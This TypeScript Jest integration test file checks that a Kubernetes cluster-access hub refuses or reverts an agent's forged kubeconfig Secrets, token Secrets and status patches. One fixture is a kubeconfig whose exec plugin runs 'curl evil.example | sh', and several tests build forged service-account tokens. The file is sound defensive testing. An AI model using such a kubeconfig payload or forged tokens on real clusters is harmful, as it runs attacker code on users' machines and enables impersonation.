import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { type ClusterAccess, ClusterAccessResource, ClusterResource } from '#api';
import { findCondition } from '#runtime';
import { accountName } from '../../operators/rbac/account.ts';
import { C_OWN, core, OWN, PADDOCK, paddock, patch, put, word } from '../integration/agent-requests.ts';
import { isAccepted, isRefused } from '../integration/policy-hub.ts';
import { eventually, eventuallyPasses } from '../support/eventually.ts';
import { SecretType } from '../support/fleet.ts';
import { base64 } from '../support/objects.ts';
import type { UserRequest } from '../support/token-user.ts';
import { AgentHub } from './agent-hub.ts';
import { adminOf, enforced, isGuarded } from './guard.ts';

const WITHIN = { timeoutMs: 25_000 };
const ANCHOR = '9c1f2d3e-aaaa-4bbb-8ccc-ddddeeeeffff';
const EXEC = base64('{users: [{name: alice, user: {exec: {command: sh, args: [-c, "curl evil.example | sh"]}}}]}');

let hub: AgentHub;
beforeAll(async () => {
  hub = await AgentHub.start();
  await enforced({
    who: hub.agent,
    request: put(core(C_OWN, 'secrets/kubeconfig'), { metadata: { name: 'kubeconfig' } }),
  });
  const forged = word(`${PADDOCK}/clusters/${OWN}/status`, { namespace: 'c-forged' });
  await enforced({ who: hub.agent, request: forged });
}, 180_000);
afterAll(() => hub?.close());

/** What a cluster would give for an access, or what somebody makes of it: nobody but the cluster knows the signature. */
function aToken({ metadata, spec }: ClusterAccess, claims: object = {}): string {
  const secret = { name: `access-${metadata.uid}`, uid: ANCHOR };
  const body = {
    sub: `system:serviceaccount:paddock-users:${accountName(spec.user)}`,
    exp: Math.floor(Date.now() / 1_000) + 3_600,
    'kubernetes.io': { namespace: 'paddock-users', secret },
    ...claims,
  };
  const part = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');
  return `${part({ alg: 'RS256', kid: 'a' })}.${part(body)}.${part('signature of the cluster')}`;
}

/** A ClusterAccess that waits for the agent. */
async function waiting(
  name: string,
  more: Partial<ClusterAccess['spec']> = {},
  user = 'alice',
): Promise<ClusterAccess> {
  await hub.ask(name, user, more);
  return await eventually(
    async () => {
      const access = await hub.read(name);
      return access.status?.tokenSecret?.uid === undefined ? undefined : access;
    },
    { ...WITHIN, what: `${name} waits for a token` },
  );
}

/** The Secret for a token as the hub made it, with what the agent puts into it. */
async function handing(access: ClusterAccess, data: object, more: object = {}): Promise<UserRequest> {
  const name = `access-token-${access.metadata.uid}`;
  const made = await hub.secret(name);
  const { labels, annotations, ownerReferences } = made?.metadata ?? {};
  const metadata = { name, labels, annotations, ownerReferences };
  return put(core(C_OWN, `secrets/${name}`), { metadata, type: 'Opaque', data, ...more });
}

async function issued(
  name: string,
  more: Partial<ClusterAccess['spec']> = {},
  claims: object = {},
): Promise<ClusterAccess> {
  const access = await waiting(name, more);
  isAccepted(await hub.agent.send(await handing(access, { token: base64(aToken(access, claims)) })));
  return await hub.says(name, 'Issued');
}

const kubeconfigOf = async ({ metadata }: ClusterAccess) =>
  (await hub.secret(`access-${metadata.uid}`))?.data?.kubeconfig ?? '';
const text = (data: string) => Buffer.from(data, 'base64').toString('utf8');
/** Of an access whose predecessor of the name was ended by force, and may have a status that is still on its way. */
let made = 0;
const another = (name: string) => `${name}-${++made}`;

async function end(name: string): Promise<void> {
  const key = { namespace: C_OWN, name };
  await hub.fleet.hub.client.delete(ClusterAccessResource, key);
  // no agent confirms; after the delete no finalizer is added any more
  if (await hub.fleet.hub.client.find(ClusterAccessResource, key))
    await hub.fleet.hub.client.mergePatch(ClusterAccessResource, key, { metadata: { finalizers: null } });
  await eventually(
    async () => (await hub.fleet.hub.client.find(ClusterAccessResource, { namespace: C_OWN, name })) === undefined,
    {
      ...WITHIN,
      what: `${name} is gone`,
    },
  );
}

describe('the kubeconfig of a person', () => {
  test('is made of what the hub knows, and of nothing of the agent’s but a token', async () => {
    const access = await issued('plain', { groups: [] });
    const kubeconfig = text(await kubeconfigOf(access));

    expect(kubeconfig).toContain('server: https://remote-1.example:6443');
    expect(kubeconfig).toContain('as: alice');
    expect(kubeconfig).not.toContain('exec');
    expect(access.status?.kubeconfig?.boundTo).toBe(ANCHOR);
    await eventuallyPasses(
      async () => expect(await hub.secret(`access-token-${access.metadata.uid}`)).toBeUndefined(),
      { ...WITHIN, what: 'the Secret of the token is gone' },
    );
    expect((await hub.read('plain')).status?.tokenSecret).toBeUndefined();
    await end('plain');
  });

  // An agent wrote all of it: whoever fetched theirs ran the thief’s program.
  test('is replaced by one that executes a program, and restored where no policy refuses that', async () => {
    const access = await issued('replaced');
    const name = `access-${access.metadata.uid}`;
    const before = await kubeconfigOf(access);
    const request = put(core(C_OWN, `secrets/${name}`), { metadata: { name }, data: { kubeconfig: EXEC } });
    await isGuarded(hub.fleet.hub, { who: hub.agent, request, guards: ['paddock-agent-secrets'] }, async () => {
      await eventuallyPasses(async () => expect(await kubeconfigOf(access)).toBe(before), {
        ...WITHIN,
        what: 'the kubeconfig is what the hub wrote',
      });
      expect(findCondition((await hub.read('replaced')).status?.conditions, 'Ready')?.reason).toBe('Issued');
    });
    await end('replaced');
  });

  test.each<readonly [what: string, change: Readonly<Record<string, unknown>>]>([
    ['another kubeconfig', { data: { kubeconfig: EXEC } }],
    ['another key besides', { data: { other: EXEC } }],
    ['no marks', { metadata: { labels: null, annotations: null, ownerReferences: null } }],
    ['another kubeconfig, no marks', { metadata: { labels: null, annotations: null }, data: { kubeconfig: EXEC } }],
    ['another kubeconfig, for ever', { immutable: true, data: { kubeconfig: EXEC } }],
  ])('is given %s by one who may write Secrets of the hub', async (_what, change) => {
    const called = another('changed');
    const access = await issued(called);
    const name = `access-${access.metadata.uid}`;
    const { client } = hub.fleet.hub;
    const before = await client.get(SecretType, { namespace: C_OWN, name });
    await client.mergePatch(SecretType, { namespace: C_OWN, name }, change);

    await eventuallyPasses(
      async () => {
        const now = await client.get(SecretType, { namespace: C_OWN, name });
        expect(now.data).toEqual(before.data);
        expect(now.immutable).toBeUndefined();
        expect(now.metadata?.labels).toEqual(before.metadata?.labels);
      },
      { ...WITHIN, what: 'the Secret is what the hub wrote' },
    );
    await hub.says(called, 'Issued');
    await end(called);
  });

  test('is replaced while no operator runs: it is made anew by the token that is in it, or ends', async () => {
    const [kept, lost] = [await issued('kept'), await issued('lost')];
    const before = await kubeconfigOf(kept);
    const { client } = hub.fleet.hub;
    await hub.whileDown(async () => {
      const extended = text(before).replace('      token:', '      exec: {command: sh}\n      token:');
      const change = { data: { kubeconfig: base64(extended) } };
      await client.mergePatch(SecretType, { namespace: C_OWN, name: `access-${kept.metadata.uid}` }, change);
      const other = { data: { kubeconfig: EXEC } };
      await client.mergePatch(SecretType, { namespace: C_OWN, name: `access-${lost.metadata.uid}` }, other);
    });

    await hub.says('lost', 'CredentialsDeleted');
    await eventuallyPasses(async () => expect(await kubeconfigOf(lost)).toBe(''), { ...WITHIN, what: 'it is gone' });
    await eventuallyPasses(async () => expect(await kubeconfigOf(kept)).toBe(before), {
      ...WITHIN,
      what: 'the kubeconfig is what the hub wrote',
    });
    for (const name of ['kept', 'lost']) await end(name);
  });
});

describe('the Secret for a token', () => {
  const token = async (access: ClusterAccess) => ({ token: base64(aToken(access)) });
  const REFUSED: readonly (readonly [string, (access: ClusterAccess) => Promise<UserRequest>, RegExp])[] = [
    ['a kubeconfig', async access => handing(access, { token: EXEC }), /one key into it, token/],
    ['more than 16 KiB', async access => handing(access, { token: base64(`eyJ${'x'.repeat(16_400)}`) }), /16 KiB/],
    ['a key besides', async access => handing(access, { ...(await token(access)), more: base64('x') }), /one key/],
    ['nothing', async access => handing(access, {}), /one key/],
    ['a token for ever', async access => handing(access, await token(access), { immutable: true }), /mutable/],
  ];
  test.each(REFUSED)('is given %s', async (_what, make, message) => {
    const called = another('given');
    const access = await waiting(called);
    const request = await make(access);
    isRefused(await hub.agent.send(request), message);
    await isGuarded(hub.fleet.hub, { who: hub.agent, request, guards: ['paddock-agent-secrets'] });
    await end(called);
  });

  test.each([
    ['labels', { more: 'x' }],
    ['annotations', { more: 'x' }],
    ['ownerReferences', []],
  ])('is given other %s', async (field, value) => {
    const called = another('marked');
    const access = await waiting(called);
    const request = await handing(access, await token(access));
    const { metadata, ...body } = request.body as { metadata: object };
    const changed = { ...request, body: { ...body, metadata: { ...metadata, [field]: value } } };
    isRefused(await hub.agent.send(changed), /labels, annotations and ownerReferences as they are/);
    await end(called);
  });

  test.each([
    ['for another person', { sub: `system:serviceaccount:paddock-users:${accountName('bob')}` }],
    ['for an account of Kubernetes', { sub: 'system:serviceaccount:kube-system:default' }],
    ['that is bound to nothing', { 'kubernetes.io': {} }],
    ['that has no end', { exp: undefined }],
  ])('is given a token %s: nobody gets it', async (_what, claims) => {
    const called = another('misled');
    const access = await waiting(called);
    isAccepted(await hub.agent.send(await handing(access, { token: base64(aToken(access, claims)) })));
    const { status } = await hub.says(called, 'TokenInvalid');

    expect(findCondition(status?.conditions, 'Stalled')?.status).toBe('True');
    expect(await hub.secret(`access-${access.metadata.uid}`)).toBeUndefined();
    isAccepted(await hub.agent.send(await handing(access, await token(access))));
    await hub.says(called, 'Issued');
    await end(called);
  });

  test('is given a token that hardly ends: the access ends all the same', async () => {
    const { metadata, status } = await issued('long', { ttl: '1h' }, { exp: 32_503_680_000 });

    const lifetime = Date.parse(status?.expiresAt ?? '') - Date.parse(String(metadata.creationTimestamp));
    expect(lifetime).toBe(3_600_000);
    await end('long');
  });
});

describe('what the hub owns in a status', () => {
  const cluster = `${PADDOCK}/clusters/${OWN}/status`;
  const project = paddock(C_OWN, 'projects/payments/status');
  const binding = paddock(C_OWN, 'roletemplatebindings/readers/status');
  const access = paddock(C_OWN, 'clusteraccesses/owned/status');
  const condition = (type: string, more: object = {}) => ({
    conditions: [
      { type, status: 'True', reason: 'Forged', message: 'x', lastTransitionTime: '2026-01-01T00:00:00Z', ...more },
    ],
  });
  beforeAll(() => issued('owned'));
  afterAll(() => end('owned'));

  test.each<readonly [what: string, path: string, status: object]>([
    ['that a Cluster has another registration', cluster, { registration: { secretRef: { name: 'theirs' } } }],
    ['that a Cluster has another namespace', cluster, { namespace: 'c-remote-2' }],
    ['that a Cluster was heard of at another time', cluster, { lastHeartbeat: '2999-01-01T00:00:00Z' }],
    ['that another agent runs', cluster, { agent: { version: 'v9', replicas: 9 } }],
    ['that a Cluster is as in another generation', cluster, { observedGeneration: 99 }],
    ['that a Cluster is cleaned', cluster, condition('Cleaned')],
    ['that nothing is known of a Cluster', cluster, { conditions: null }],
    ['that a Project has another namespace', project, { namespace: 'p-remote-2--payments' }],
    ['that a Project is being deleted', project, condition('Deleting', { reason: 'Clean' })],
    ['that a Project is stalled', project, condition('Stalled')],
    ['that a binding is Ready', binding, condition('Ready')],
    ['that a binding is being deleted', binding, condition('Deleting', { reason: 'Clean' })],
    ['that a template is deleted', binding, condition('RoleTemplateDeleted')],
    ['that a binding is bound on more clusters', binding, { clusters: { total: 9, bound: 9 } }],
    ['that an access ends later', access, { expiresAt: '2999-01-01T00:00:00Z' }],
    ['that an access has another Secret', access, { secretRef: { name: 'kubeconfig' } }],
    ['that an access has another kubeconfig', access, { kubeconfig: { sha256: '0'.repeat(64) } }],
    ['that an access waits for a token in another Secret', access, { tokenSecret: { name: 'x', uid: 'x' } }],
    ['that an access was never issued', access, { expiresAt: null, secretRef: null, conditions: null }],
    ['more than anybody reads', project, condition('Ready', { message: 'x'.repeat(20_000) })],
  ])('is written by an agent: %s', async (_what, path, status) => {
    // an apply takes nothing away that others wrote; a patch does, as whatever manager
    const isRemoving = Object.values(status).includes(null);
    const request = isRemoving ? patch(path, { status }) : word(path, status);
    await isGuarded(hub.fleet.hub, { who: hub.agent, request, guards: ['paddock-agent-statuses'] });
  });

  test.each<readonly [what: string, request: UserRequest]>([
    ['as a field manager whose words no later agent takes back', word(project, condition('Ready'), 'thief')],
    ['by a patch', patch(`${project}?fieldManager=paddock-agent-project`, { status: condition('Ready') })],
    ['of a generation that is still to come', word(binding, condition('Applied', { observedGeneration: 99 }))],
    ['that something ended which is not being deleted', word(binding, condition('Revoked'))],
    ['that a Project ended which is not being deleted', word(project, condition('Detached'))],
  ])('is said by an agent: %s', async (_what, request) => {
    await isGuarded(hub.fleet.hub, { who: hub.agent, request, guards: ['paddock-agent-statuses'] });
  });

  test('is put right where no policy stood in the way', async () => {
    const own = () => hub.fleet.hub.client.get(ClusterResource, { name: OWN });
    const before = (await own()).status?.registration;
    const agent = { replicas: 9 };
    const registration = { secretRef: { name: 'theirs' }, expiresAt: '2999-01-01T00:00:00Z' };
    isAccepted(
      await adminOf(hub.fleet.hub).send(patch(`${cluster}?fieldManager=forged`, { status: { registration, agent } })),
    );
    const forged = { expiresAt: '2999-01-01T00:00:00Z', tokenSecret: { name: 'theirs' } };
    isAccepted(await adminOf(hub.fleet.hub).send(patch(`${access}?fieldManager=forged`, { status: forged })));

    await eventuallyPasses(
      async () => {
        const after = (await own()).status;
        expect(after?.registration).toEqual(before);
        expect(after?.agent?.replicas).toBe(2);
        const { metadata, status } = await hub.read('owned');
        const lifetime = Date.parse(status?.expiresAt ?? '') - Date.parse(String(metadata.creationTimestamp));
        expect(lifetime).toBeLessThanOrEqual(12 * 3_600_000);
        expect(status?.tokenSecret).toBeUndefined();
      },
      { ...WITHIN, what: 'the hub says what it knows' },
    );
  });
});

test('a person who asks for many kubeconfigs has five, and holds up nobody', async () => {
  const names = Array.from({ length: 60 }, (_each, index) => `flood-${String(index).padStart(2, '0')}`);
  await Promise.all(names.map(name => hub.ask(name, 'carol')));
  const started = Date.now();
  await waiting('bobs', {}, 'bob');
  expect(Date.now() - started).toBeLessThan(10_000);

  await eventuallyPasses(
    async () => {
      const { items } = await hub.fleet.hub.client.list(ClusterAccessResource, { namespace: C_OWN });
      const all = items.filter(({ metadata }) => metadata.name?.startsWith('flood-'));
      const first = all
        .toSorted((a, b) => (order(a) < order(b) ? -1 : 1))
        .slice(0, 5)
        .map(({ metadata }) => metadata.name);
      const valid = all.filter(({ status }) => findCondition(status?.conditions, 'Ready')?.reason !== 'TooMany');
      expect(valid.map(({ metadata }) => metadata.name).sort()).toEqual(first.sort());
    },
    { ...WITHIN, what: 'five are valid' },
  );
  const surplus = (await hub.fleet.hub.client.list(ClusterAccessResource, { namespace: C_OWN })).items.filter(
    ({ status }) => findCondition(status?.conditions, 'Ready')?.reason === 'TooMany',
  );
  expect(surplus).toHaveLength(55);
  const [old] = surplus;
  const conditions = (old?.status?.conditions ?? []).map(each => ({ ...each, lastTransitionTime: elevenMinutesAgo() }));
  const key = { namespace: C_OWN, name: old?.metadata.name ?? '' };
  const status = { status: { conditions } };
  await hub.whileDown(async () => {
    await hub.fleet.hub.client.mergePatch(ClusterAccessResource, key, status, { subresource: 'status' });
  });
  await eventually(async () => (await hub.fleet.hub.client.find(ClusterAccessResource, key)) === undefined, {
    ...WITHIN,
    what: 'one that is too many is deleted after ten minutes',
  });
  const tokens = (await hub.fleet.hub.client.list(SecretType, { namespace: C_OWN })).items.filter(({ metadata }) =>
    metadata?.name?.startsWith('access-token-'),
  );
  expect(tokens.length).toBeLessThanOrEqual(6);
});

const elevenMinutesAgo = () => new Date(Date.now() - 660_000).toISOString().replace(/\.\d+Z$/, 'Z');
const order = ({ metadata }: ClusterAccess) => `${metadata.creationTimestamp} ${metadata.name}`;
